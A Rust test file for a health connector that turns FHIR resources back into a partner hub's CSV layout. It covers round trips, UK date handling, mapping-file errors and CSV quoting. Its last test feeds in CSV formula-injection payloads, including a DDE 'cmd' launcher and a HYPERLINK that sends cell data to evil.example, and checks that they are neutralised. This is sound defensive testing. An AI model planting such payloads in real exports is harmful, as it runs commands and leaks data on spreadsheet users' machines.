//! Reverse mapping tests: the round trip on the hub's real mappings and fixtures (render the resources in the
//! hub's layout, map that forward again, get the very same resources), and the inversion's parts.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use serde_json::{Value, json};

use super::super::{
    Catalog, Category, Input, MappedResource, Partner, Quarantined, RecordKind, Sink, load_catalog, run,
};
use super::invert::untransform;
use super::*;
use crate::mapping::transform::{self, Transform};

fn root() -> &'static Path {
    Path::new(env!("CARGO_MANIFEST_DIR"))
}

/// A scratch folder, removed when the test ends.
struct Dir(PathBuf);
impl Drop for Dir {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

fn scratch(name: &str) -> Dir {
    let dir = std::env::temp_dir().join(format!("connector-reverse-{}-{name}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    Dir(dir)
}

/// A resource the engine produced, with what the sync sends along with it.
#[derive(Debug, Clone)]
struct Out {
    kind: Option<RecordKind>,
    category: Category,
    not_for_patient: bool,
    resource: Value,
}

#[derive(Default)]
struct Got {
    out: Vec<Out>,
    quarantined: Vec<Quarantined>,
}

impl Sink for Got {
    fn resource(&mut self, r: &MappedResource<'_>) -> std::io::Result<()> {
        self.out.push(Out {
            kind: r.kind,
            category: r.category,
            not_for_patient: r.not_for_patient,
            resource: r.resource(),
        });
        Ok(())
    }
    fn quarantined(&mut self, q: &Quarantined) -> std::io::Result<()> {
        self.quarantined.push(q.clone());
        Ok(())
    }
}

fn hub_catalog() -> Catalog {
    load_catalog(&root().join("mappings")).unwrap_or_else(|e| panic!("{e:?}"))
}

/// Maps files named after their kind (`contact.csv`) in `dir`, as `connector mappings test` does.
fn map_dir(partner: &Partner, dir: &Path) -> Got {
    let mut inputs: Vec<Input> = std::fs::read_dir(dir)
        .unwrap()
        .filter_map(|e| e.ok().map(|e| e.path()))
        .filter_map(|path| {
            let stem = path.file_stem()?.to_str()?.to_string();
            let kind = RecordKind::parse(&stem).filter(|k| partner.mappings.contains_key(k))?;
            Some(Input { kind, path })
        })
        .collect();
    inputs.sort_by_key(|i| i.kind);
    let mut got = Got::default();
    run(partner, &inputs, &mut got).unwrap();
    got
}

/// What the central record holds: the resource labelled as the sync labels it, with the server's version.
fn labelled(o: &Out) -> Value {
    let mut r = o.resource.clone();
    crate::policy::label(&mut r, o.category, o.not_for_patient);
    r["meta"]["versionId"] = json!("3");
    r["meta"]["lastUpdated"] = json!("2026-11-20T09:15:02.118+00:00");
    r
}

fn hub_resource<'a>(got: &'a Got, resource_type: &str, identifier: &str) -> &'a Out {
    got.out
        .iter()
        .find(|o| {
            o.resource["resourceType"] == resource_type
                && o.resource.to_string().contains(&format!("\"value\":\"{identifier}\""))
        })
        .unwrap_or_else(|| panic!("no {resource_type} {identifier}"))
}

fn hub_fixtures() -> (Catalog, Got) {
    let catalog = hub_catalog();
    let got = map_dir(catalog.partner("hub").unwrap(), &root().join("tests/fixtures/hub"));
    (catalog, got)
}

fn rows(csv: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(csv.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(String::from).collect())
        .collect()
}

fn cell(feed: &CsvFeed, file: &str, row: usize, column: &str) -> String {
    let (_, text) = feed.files.iter().find(|(n, _)| n == file).unwrap_or_else(|| panic!("no {file}"));
    let rows = rows(text);
    let c = rows[0].iter().position(|h| h == column).unwrap_or_else(|| panic!("no column {column}"));
    rows[row][c].clone()
}

#[test]
fn hub_resources_come_back_byte_identical_through_the_hubs_own_layout() {
    let (catalog, original) = hub_fixtures();
    let hub = catalog.partner("hub").unwrap();
    let kinds: Vec<RecordKind> = hub.reverse.values().map(|r| r.kind).collect();
    for k in [RecordKind::Person, RecordKind::Carer, RecordKind::Referral, RecordKind::Episode, RecordKind::Contact] {
        assert!(kinds.contains(&k), "the hub has a reverse mapping for {k}");
    }
    // The central record's resources, labelled (the not-for-the-patient contacts carry NOPAT), in one feed.
    let sent: Vec<Value> = original.out.iter().filter(|o| o.kind.is_some()).map(labelled).collect();
    let feed = render_csv(hub, &sent, &Anchors::new()).unwrap();
    assert!(
        feed.skipped
            .iter()
            .all(|s| ["Goal/", "CarePlan/", "Observation/", "Consent/"].iter().any(|t| s.starts_with(t))),
        "{:?}",
        feed.skipped
    );

    let dir = scratch("roundtrip");
    for (name, text) in &feed.files {
        let header = hub.reverse.values().find(|r| &r.file == name).unwrap().header.join(",");
        assert!(text.starts_with(&format!("{header}\r\n")) && text.ends_with("\r\n"), "{name}");
        if std::env::var_os("REVERSE_DUMP").is_some() {
            eprintln!("=== {name}\n{text}");
        }
        std::fs::write(dir.0.join(name), text).unwrap();
    }
    let again = map_dir(hub, &dir.0);
    assert!(again.quarantined.is_empty(), "{:#?}", again.quarantined);

    // Every resource of the reversed kinds (reqol's derived Observations too), same ids, same bytes, same order.
    let of = |got: &Got| -> Vec<(String, bool)> {
        got.out
            .iter()
            .filter(|o| o.kind.is_some_and(|k| kinds.contains(&k)))
            .map(|o| (serde_json::to_string(&o.resource).unwrap(), o.not_for_patient))
            .collect()
    };
    let (want, got) = (of(&original), of(&again));
    assert_eq!(want.len(), got.len(), "as many resources come back as went out");
    for (w, g) in want.iter().zip(&got) {
        assert_eq!(w, g);
    }
    // The contacts not for the patient stay so, and the others stay visible.
    for (contact, hidden) in [("C-5009", true), ("C-5011", true), ("C-5001", false)] {
        assert_eq!(hub_resource(&again, "Encounter", contact).not_for_patient, hidden, "{contact}");
    }
    let counts = |got: &Got, t: &str| got.out.iter().filter(|o| o.resource["resourceType"] == t).count();
    for (t, n) in [("Patient", 11), ("Encounter", 16), ("QuestionnaireResponse", 8), ("Observation", 8)] {
        assert_eq!((counts(&original, t), counts(&again, t)), (n, n), "{t}");
    }
}

#[test]
fn a_feed_of_contacts_alone_names_clients_by_the_anchors() {
    let (catalog, original) = hub_fixtures();
    let hub = catalog.partner("hub").unwrap();
    let patient = hub_resource(&original, "Patient", "HUB-1005");
    let fields = fields_of(hub, &patient.resource).unwrap();
    assert_eq!(fields["client_id"], "HUB-1005");
    assert_eq!(fields["dob"], "09/12/1995");
    // The central record's Patient has its own id; the feed gives the hub's client id for it.
    let central = json!({"resourceType": "Encounter"});
    assert!(fields_of(hub, &central).is_none() || fields_of(hub, &central).unwrap().is_empty());
    let contact = labelled(hub_resource(&original, "Encounter", "C-5009"));
    let subject = contact["subject"]["reference"].as_str().unwrap().to_string();
    let anchors = Anchors::from([(subject, BTreeMap::from([("client_id".to_string(), "HUB-1005".to_string())]))]);
    let feed = render_csv(hub, std::slice::from_ref(&contact), &anchors).unwrap();
    assert_eq!(feed.files.len(), 1);
    assert_eq!(cell(&feed, "contact.csv", 1, "Client ID"), "HUB-1005");
    assert_eq!(cell(&feed, "contact.csv", 1, "Patient Visible"), "No");
    assert_eq!(cell(&feed, "contact.csv", 1, "Episode ID"), "", "no episode in the feed: the link is left empty");
    assert_eq!(cell(&feed, "contact.csv", 1, "Notes"), "");

    // Without an anchor the client cannot be named, and a row without it would not import.
    let err = render_csv(hub, &[contact], &Anchors::new()).unwrap_err().to_string();
    assert!(err.contains("column \"Client ID\" (fields.client_id)") && err.contains("anchors"), "{err}");
}

#[test]
fn uk_datetimes_go_back_to_uk_local_time_by_the_instant() {
    let back = |s: &str| untransform(Transform::UkDateTime, s).unwrap();
    // GMT (before the clocks went forward on 26 March 2023) and BST (after).
    assert_eq!(back("2023-03-24T10:00:00+00:00"), "24/03/2023 10:00");
    assert_eq!(back("2023-03-27T10:00:00+01:00"), "27/03/2023 10:00");
    // The same instants written in UTC: the local time is what the partner's system shows.
    assert_eq!(back("2023-03-27T09:00:00Z"), "27/03/2023 10:00");
    assert_eq!(back("2023-07-01T23:30:00Z"), "02/07/2023 00:30", "a UTC evening can be the next day in the UK");
    assert_eq!(back("2023-03-24T10:00:30+00:00"), "24/03/2023 10:00:30");
    assert_eq!(back("2023-03-24"), "24/03/2023");
    // 01:30 on 29 October 2023 happened twice: the first is plain local time, the second keeps its offset.
    assert_eq!(back("2023-10-29T01:30:00+01:00"), "29/10/2023 01:30");
    assert_eq!(back("2023-10-29T01:30:00+00:00"), "29/10/2023 01:30:00+00:00");
    for s in ["2023-03-24T10:00:00+00:00", "2023-03-27T10:00:00+01:00", "2023-10-29T01:30:00+00:00"] {
        assert_eq!(transform::uk_datetime(&back(s)).unwrap(), s, "the forward transform gives {s} back");
    }
    assert!(untransform(Transform::UkDateTime, "2023-03").unwrap_err().contains("day, month and year"));
    assert_eq!(untransform(Transform::UkDate, "1987-04-03").unwrap(), "03/04/1987");
}

#[test]
fn many_codes_for_one_value_give_the_first_and_fields_of_a_column_agree() {
    let (catalog, original) = hub_fixtures();
    let hub = catalog.partner("hub").unwrap();
    // "Cancelled by client" and "DNA" both give `cancelled`; DNA is the first in [maps.status].
    let c = labelled(hub_resource(&original, "Encounter", "C-5013"));
    assert_eq!(c["status"], "cancelled");
    let row = hub.reverse["Encounter"].row(hub, &c, &Anchors::new());
    assert!(row.is_err(), "no anchor for the client");
    let anchors: Anchors = original
        .out
        .iter()
        .filter(|o| o.resource["resourceType"] == "Patient")
        .map(|o| (format!("Patient/{}", o.resource["id"].as_str().unwrap()), fields_of(hub, &o.resource).unwrap()))
        .collect();
    let feed = render_csv(hub, &[c], &anchors).unwrap();
    assert_eq!(cell(&feed, "contact.csv", 1, "Attendance"), "DNA");
    assert_eq!(cell(&feed, "contact.csv", 1, "Contact Type"), "1-2-1");
    assert_eq!(cell(&feed, "contact.csv", 1, "Contact Method"), "Face to face");
    assert_eq!(cell(&feed, "contact.csv", 1, "Contact Date/Time"), "20/02/2024 09:15");
    assert_eq!(cell(&feed, "contact.csv", 1, "Duration (mins)"), "");

    // Gender: several codes per value, and the NHS number's verification from two fields of one column.
    let p = hub_resource(&original, "Patient", "HUB-1011");
    let f = fields_of(hub, &p.resource).unwrap();
    assert_eq!((f["gender"].as_str(), f["nhs_status_code"].as_str()), ("Prefer not to say", "Y"));

    // Codes that share a column narrow each other down: status `active` is Active or Declined, policy
    // OPTOUT is Declined or Withdrawn, so the consent status can only be Declined.
    let consent = &catalog.partner("hub").unwrap().mappings[&RecordKind::Consent];
    let field = |name: &str| consent.fields.iter().position(|f| f.name == name).unwrap();
    let keys = |name: &str| -> Vec<(String, Value)> {
        let m = consent.fields[field(name)].map.as_ref().unwrap();
        let mut v: Vec<(String, Value)> = m.entries.iter().map(|(k, v)| (k.clone(), v.clone())).collect();
        v.sort_by(|a, b| a.0.cmp(&b.0));
        v
    };
    let status =
        invert::field_texts(&consent.fields[field("status")], Some(&keys("status")), &json!("active")).unwrap();
    let policy =
        invert::field_texts(&consent.fields[field("policy")], Some(&keys("policy")), &json!("OPTOUT")).unwrap();
    assert_eq!(status, ["active", "declined"]);
    assert_eq!(policy, ["declined", "withdrawn"]);
}

#[test]
fn an_interpolated_string_gives_back_what_sits_between_its_words() {
    let (catalog, original) = hub_fixtures();
    let hub = catalog.partner("hub").unwrap();
    let sr = hub_resource(&original, "ServiceRequest", "REF-203").resource.clone();
    assert_eq!(sr["code"]["text"], "Referral to 24/7 Centre");
    assert_eq!(fields_of(hub, &sr).unwrap()["service"], "24/7 Centre");
    assert_eq!(fields_of(hub, &sr).unwrap()["source_code"], "A&E Liaison");

    // Text that is not "Referral to ..." was not made by this template: the required Service cannot be written.
    let mut other = sr.clone();
    other["code"]["text"] = json!("Crisis follow-up");
    assert!(!fields_of(hub, &other).unwrap().contains_key("service"));
    let anchors = Anchors::from([(
        sr["subject"]["reference"].as_str().unwrap().to_string(),
        BTreeMap::from([("client_id".to_string(), "HUB-1003".to_string())]),
    )]);
    let err = render_csv(hub, &[other], &anchors).unwrap_err().to_string();
    assert!(err.contains("column \"Service\" (fields.service)") && err.contains("no value"), "{err}");
    assert!(!err.contains("Crisis"), "errors never repeat a value: {err}");

    // The "*" fallback cannot say what the partner wrote.
    let mut unknown = sr;
    unknown["category"][0]["coding"][0]["code"] = json!("other");
    unknown["category"][0]["coding"][0]["display"] = json!("Other");
    let err = render_csv(hub, &[unknown], &anchors).unwrap_err().to_string();
    assert!(err.contains("column \"Referral Source\"") && err.contains("fallback"), "{err}");
}

#[test]
fn another_partners_identifier_system_still_gives_the_id_column() {
    let (catalog, original) = hub_fixtures();
    let hub = catalog.partner("hub").unwrap();
    let own = labelled(hub_resource(&original, "Patient", "HUB-1001"));
    // A York Mind Patient as the central record holds it: York Mind's systems and Organization.
    let text = own
        .to_string()
        .replace("https://id.york-connector.example/hub/client", "https://id.york-connector.example/york-mind/client")
        .replace(&hub.organization_id, "00000000-0000-5000-8000-000000000001")
        .replace("HUB-1001", "YM-50231");
    let york_mind: Value = serde_json::from_str(&text).unwrap();
    let f = fields_of(hub, &york_mind).unwrap();
    assert_eq!((f["client_id"].as_str(), f["family"].as_str()), ("YM-50231", "Brontë"));

    // With both partners' client identifiers on one Patient, the hub's own wins, wherever it is in the list.
    let mut both = own.clone();
    let ids = both["identifier"].as_array_mut().unwrap();
    ids.insert(0, json!({"system": "https://id.york-connector.example/york-mind/client", "value": "YM-50231"}));
    assert_eq!(fields_of(hub, &both).unwrap()["client_id"], "HUB-1001");

    // A contact-type code is not a contact identifier, though both systems start alike.
    let enc = hub_resource(&original, "Encounter", "C-5001").resource.clone();
    assert_eq!(fields_of(hub, &enc).unwrap()["contact_id"], "C-5001");
}

#[test]
fn not_for_the_patient_comes_from_the_security_labels() {
    let (catalog, original) = hub_fixtures();
    let hub = catalog.partner("hub").unwrap();
    let hidden = hub_resource(&original, "Encounter", "C-5009");
    let shown = hub_resource(&original, "Encounter", "C-5001");
    let visible = |r: &Value| fields_of(hub, r).unwrap().get("patient_visible").cloned();
    assert_eq!(visible(&labelled(hidden)).as_deref(), Some("No"));
    assert_eq!(visible(&labelled(shown)).as_deref(), Some("Yes"));
    // Nobody labelled it: no answer, which the hub reads as not visible (it may be a safeguarding note).
    assert_eq!(visible(&shown.resource), None);
}

#[test]
fn resources_without_a_reverse_mapping_are_skipped_and_non_resources_refused() {
    let (catalog, original) = hub_fixtures();
    let hub = catalog.partner("hub").unwrap();
    let goal = hub_resource(&original, "Goal", "GP-401-1").resource.clone();
    let feed = render_csv(hub, std::slice::from_ref(&goal), &Anchors::new()).unwrap();
    assert!(feed.files.is_empty());
    assert_eq!(feed.skipped, [format!("Goal/{}", goal["id"].as_str().unwrap())]);
    assert!(fields_of(hub, &goal).is_none());

    let err = render_csv(hub, &[json!({"id": "x"})], &Anchors::new()).unwrap_err().to_string();
    assert!(err.contains("item 0") && err.contains("no resourceType"), "{err}");
    let err = hub.reverse["Patient"].row(hub, &goal, &Anchors::new()).unwrap_err().to_string();
    assert!(err.contains("turns back Patient resources only"), "{err}");
}

#[test]
fn csv_quotes_as_rfc_4180_with_crlf() {
    let (catalog, original) = hub_fixtures();
    let hub = catalog.partner("hub").unwrap();
    let sr = labelled(hub_resource(&original, "ServiceRequest", "REF-202"));
    let anchors = Anchors::from([(
        sr["subject"]["reference"].as_str().unwrap().to_string(),
        BTreeMap::from([("client_id".to_string(), "HUB-1002".to_string())]),
    )]);
    let feed = render_csv(hub, &[sr], &anchors).unwrap();
    assert_eq!(
        feed.files[0].1,
        "Referral ID,Client ID,Date Received,Referral Source,Referral Reason,Service,Status,Date Closed,Closure Reason\r\n\
         REF-202,HUB-1002,15/03/2023,GP,\"Panic attacks, struggling to work\",Hub Core Team,Accepted,,\r\n"
    );
}

/// The hub's mappings with one more file, loaded.
fn hub_with(name: &str, file: &str, text: &str) -> Vec<String> {
    let dir = scratch(name);
    let hub = dir.0.join("hub");
    std::fs::create_dir_all(&hub).unwrap();
    for e in std::fs::read_dir(root().join("mappings/hub")).unwrap() {
        let p = e.unwrap().path();
        std::fs::copy(&p, hub.join(p.file_name().unwrap())).unwrap();
    }
    std::fs::write(hub.join(file), text).unwrap();
    match load_catalog(&dir.0) {
        Ok(_) => Vec::new(),
        Err(errors) => errors.iter().map(ToString::to_string).collect(),
    }
}

#[test]
fn reverse_mapping_errors_name_file_line_and_key() {
    let contact = std::fs::read_to_string(root().join("mappings/hub/contact.reverse.toml")).unwrap();
    let bad = contact.replace("\"Worker Role\", \"Notes\"]", "\"Worker Role\", \"Notes\",\n  \"Bogus\"]");
    let line = bad.lines().position(|l| l.contains("\"Bogus\"")).unwrap() + 1;
    let errors = hub_with("unknown-column", "contact.reverse.toml", &bad);
    assert_eq!(errors.len(), 1, "{errors:?}");
    assert!(
        errors[0].contains(&format!("contact.reverse.toml:{line}: reverse.columns: \"Bogus\" is not a column"))
            && errors[0].contains("blank"),
        "{errors:?}"
    );

    let errors = hub_with("unknown-resource", "contact.reverse.toml", &contact.replace("\"encounter\"", "\"visit\""));
    assert!(errors[0].contains("reverse.resource: no [[resource]] named \"visit\""), "{errors:?}");

    let errors =
        hub_with("kind", "contact.reverse.toml", &contact.replace("kind = \"contact\"", "kind = \"referral\""));
    assert!(errors.iter().any(|e| e.contains("name the file referral.reverse.toml")), "{errors:?}");

    let missing = contact.replace("\"Contact Method\", ", "");
    let errors = hub_with("missing-column", "contact.reverse.toml", &missing);
    assert!(errors.iter().any(|e| e.contains("add \"Contact Method\": fields.class_code reads it")), "{errors:?}");
}

const P1: &str = "[partner]\nid = \"p1\"\nname = \"Partner One\"\nidentifier_system = \"https://id.example/p1\"\ncharity_number = \"1000001\"\n";

/// A partner whose contacts say two things in one column: the status, and whether the slot was kept.
const P1_CONTACT: &str = r#"
[mapping]
partner = "p1"
kind = "contact"
version = "1.0.0"
key = ["contact_id"]

[fields]
contact_id = { from = "Contact", required = true }
client_id = { from = "Client ID", required = true }
status = { from = "Outcome", map = "status", required = true }
kept = { from = "Outcome", map = "kept" }

[refs]
patient = { kind = "person", resource = "patient", key = ["client_id"] }

[maps.status]
Attended = "finished"
DNA = "cancelled"
"Cancelled by us" = "cancelled"

[maps.kept]
Attended = true
DNA = true
"Cancelled by us" = false

[[resource]]
name = "encounter"
type = "Encounter"
[resource.template]
identifier = [{ system = "{partner.identifier_system}/contact", value = "{contact_id}" }]
status = "{status}"
class = { system = "http://terminology.hl7.org/CodeSystem/v3-ActCode", code = "AMB" }
subject = { reference = "{ref.patient}" }
extension = [{ url = "https://id.example/slot-kept", valueBoolean = "{kept}" }]
"#;

/// The person every p1 record is about (everything but an Organization must refer to a Patient).
const P1_PERSON: &str = r#"
[mapping]
partner = "p1"
kind = "person"
version = "1.0.0"
key = ["client_id"]

[fields]
client_id = { from = "Client ID", required = true }

[[resource]]
name = "patient"
type = "Patient"
[resource.template]
identifier = [{ system = "{partner.identifier_system}/client", value = "{client_id}" }]
"#;

const P1_CONTACT_REVERSE: &str = "[reverse]\nkind = \"contact\"\nresource = \"encounter\"\nfile = \"contacts.csv\"\ncolumns = [\"Contact\", \"Client ID\", \"Outcome\"]\n";

fn p1(name: &str, files: &[(&str, &str)]) -> (Dir, Result<Catalog, Vec<String>>) {
    let dir = scratch(name);
    std::fs::create_dir_all(dir.0.join("p1")).unwrap();
    std::fs::write(dir.0.join("p1/partner.toml"), P1).unwrap();
    std::fs::write(dir.0.join("p1/person.toml"), P1_PERSON).unwrap();
    for (file, text) in files {
        std::fs::write(dir.0.join("p1").join(file), text).unwrap();
    }
    let loaded = load_catalog(&dir.0).map_err(|e| e.iter().map(ToString::to_string).collect());
    (dir, loaded)
}

#[test]
fn fields_sharing_a_column_agree_on_one_wording() {
    let (_d, catalog) = p1("agree", &[("contact.toml", P1_CONTACT), ("contact.reverse.toml", P1_CONTACT_REVERSE)]);
    let catalog = catalog.unwrap();
    let p = catalog.partner("p1").unwrap();
    let encounter = |status: &str, kept: bool| {
        json!({"resourceType": "Encounter", "id": "e1", "status": status,
            "identifier": [{"system": "https://id.example/p1/contact", "value": "K1"}],
            "class": {"system": "http://terminology.hl7.org/CodeSystem/v3-ActCode", "code": "AMB"},
            "subject": {"reference": "Patient/p-1"},
            "extension": [{"url": "https://id.example/slot-kept", "valueBoolean": kept}]})
    };
    let anchors =
        Anchors::from([("Patient/p-1".to_string(), BTreeMap::from([("client_id".to_string(), "P-1".to_string())]))]);
    // `cancelled` is DNA or "Cancelled by us"; only "Cancelled by us" did not keep the slot.
    let outcome = |r: Value| p.reverse["Encounter"].row(p, &r, &anchors).unwrap()[2].clone();
    assert_eq!(outcome(encounter("cancelled", true)), "DNA");
    assert_eq!(outcome(encounter("cancelled", false)), "Cancelled by us");
    assert_eq!(outcome(encounter("finished", true)), "Attended");
}

#[test]
fn a_second_reverse_mapping_for_a_type_names_both_files() {
    // Two kinds making Encounters, each with a reverse mapping.
    let referral = P1_CONTACT.replace("kind = \"contact\"", "kind = \"referral\"");
    let referral_reverse =
        P1_CONTACT_REVERSE.replace("\"contact\"", "\"referral\"").replace("contacts.csv", "referrals.csv");
    let (d, catalog) = p1(
        "second",
        &[
            ("contact.toml", P1_CONTACT),
            ("contact.reverse.toml", P1_CONTACT_REVERSE),
            ("referral.toml", &referral),
            ("referral.reverse.toml", &referral_reverse),
        ],
    );
    let errors = catalog.unwrap_err();
    let first = d.0.join("p1/contact.reverse.toml");
    assert!(
        errors.iter().any(|e| e.contains("referral.reverse.toml") && e.contains(&first.display().to_string())),
        "{errors:?}"
    );
}

#[test]
fn kinds_whose_row_one_resource_cannot_carry_do_not_load() {
    let goals = "[reverse]\nkind = \"goals\"\nresource = \"goal_1\"\nfile = \"goals.csv\"\ncolumns = [\"Plan ID\", \"Client ID\", \"Plan Date\", \"Hardest Thing 1\", \"Progress 1\", \"Hardest Thing 2\", \"Progress 2\", \"Hardest Thing 3\", \"Progress 3\", \"Last Reviewed\"]\n";
    let errors = hub_with("goals", "goals.reverse.toml", goals);
    assert!(
        errors.iter().any(
            |e| e.contains("goals.reverse.toml:3: reverse.resource") && e.contains("thing_2 (resource \"goal_2\")")
        ),
        "{errors:?}"
    );
    let consent = "[reverse]\nkind = \"consent\"\nresource = \"consent\"\nfile = \"consent.csv\"\ncolumns = [\"Consent ID\", \"Client ID\", \"Consent Date\", \"Share with Central Record\", \"Share with PKB\", \"Share with Partners\", \"Restrictions\", \"Consent Status\", \"Withdrawn Date\"]\n";
    let errors = hub_with("consent", "consent.reverse.toml", consent);
    assert!(errors.iter().any(|e| e.contains("share_cito ([consent])")), "{errors:?}");
}

#[test]
fn other_partners_records_render_in_the_hubs_layout_and_import_there() {
    let catalog = hub_catalog();
    let hub = catalog.partner("hub").unwrap();
    for (other, contact_id) in [("york-mind", "90001"), ("carers-centre", "4001")] {
        let p = catalog.partner(other).unwrap();
        let got = map_dir(p, &root().join("tests/fixtures").join(other));
        let sent: Vec<Value> = got.out.iter().filter(|o| o.kind.is_some()).map(labelled).collect();
        let feed = render_csv(hub, &sent, &Anchors::new()).unwrap_or_else(|e| panic!("{other}: {e}"));
        let dir = scratch(other);
        for (name, text) in &feed.files {
            std::fs::write(dir.0.join(name), text).unwrap();
        }
        // The hub's own import takes every row: its codes, its dates, the other partner's client ids.
        let again = map_dir(hub, &dir.0);
        assert!(again.quarantined.is_empty(), "{other}: {:#?}", again.quarantined);
        let count = |g: &Got, t: &str| g.out.iter().filter(|o| o.resource["resourceType"] == t).count();
        for t in ["Patient", "ServiceRequest", "Encounter"] {
            assert!(count(&got, t) > 0, "{other} has {t}s");
            assert_eq!(count(&again, t), count(&got, t), "{other}: every {t} is a row");
        }
        let first = got.out.iter().find(|o| o.resource["resourceType"] == "Encounter").unwrap();
        let f = fields_of(hub, &first.resource).unwrap();
        assert_eq!(f["contact_id"], contact_id, "{other}");
        assert!(["Welcoming Conversation", "1-2-1", "Group", "Drop-in", "Phone"].contains(&f["type_code"].as_str()));
    }
}

#[test]
fn csv_feed_cells_that_a_spreadsheet_would_run_are_made_text() {
    use super::neutralise_formula as n;
    for formula in
        ["=HYPERLINK(\"http://x\")", "@SUM(A1)", "+cmd|' /C calc'!A0", "-2+3+cmd|x!A0", "\t=1", "\r=1", "-", "+"]
    {
        assert_eq!(n(formula), format!("'{formula}"), "{formula:?}");
    }
    for data in ["+44 7700 900345", "-12.5", "-3", "07700 900123", "O'Brien", "", "Zoë", "a=b"] {
        assert_eq!(n(data), data, "{data:?}");
    }
    for not_plain in ["-1.2.3", "+44 ", "- 3", "-1e5"] {
        assert_eq!(n(not_plain), format!("'{not_plain}"), "{not_plain:?}");
    }

    // Through the feed writer: a Patient whose name was typed as a formula reaches the partner as text.
    let (catalog, original) = hub_fixtures();
    let hub = catalog.partner("hub").unwrap();
    let mut p = labelled(hub_resource(&original, "Patient", "HUB-1006"));
    p["name"][0]["family"] = Value::String("=HYPERLINK(\"http://evil.example/\"&A1,\"Walsh\")".into());
    p["name"][0]["given"] = serde_json::json!(["@SUM(1+1)"]);
    let feed = render_csv(hub, &[p], &Anchors::new()).unwrap();
    let file = &feed.files[0].0;
    assert!(cell(&feed, file, 1, "Surname").starts_with("'=HYPERLINK("), "{:?}", feed.files);
    assert_eq!(cell(&feed, file, 1, "Forename"), "'@SUM(1+1)");
}
